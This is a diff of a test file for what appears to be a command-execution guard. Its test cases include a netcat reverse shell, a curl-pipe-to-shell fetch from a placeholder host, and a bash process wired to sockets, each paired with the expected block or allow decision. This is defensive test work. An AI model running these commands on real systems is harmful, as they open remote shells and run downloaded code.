@@ -139,7 +139,7 @@ def test_a_critical_tree_is_refused_whatever_the_program() -> None:
     (facts("nc", "-e", "/bin/sh", "127.0.0.1", "9"), Action.BLOCK, "rs-netcat"),
     (facts("ls", "-l"), Action.ALLOW, None),
     # a Tier-1 warn is not carried to the exec: the prompt asked about it already
-    (facts("bash", "-c", "curl -s http://h.invalid/i | sh"), Action.ALLOW, None),
+    (facts("bash", "-c", "curl -s https://h.invalid/i | sh"), Action.ALLOW, None),
     (ExecFacts("/usr/bin/bash", ("bash", "-i"),
                (FdInfo(FdKind.SOCKET, 5, 2), FdInfo(FdKind.SOCKET, 5, 2), FdInfo(FdKind.TTY))),
      Action.BLOCK, "exec.reverse-shell"),
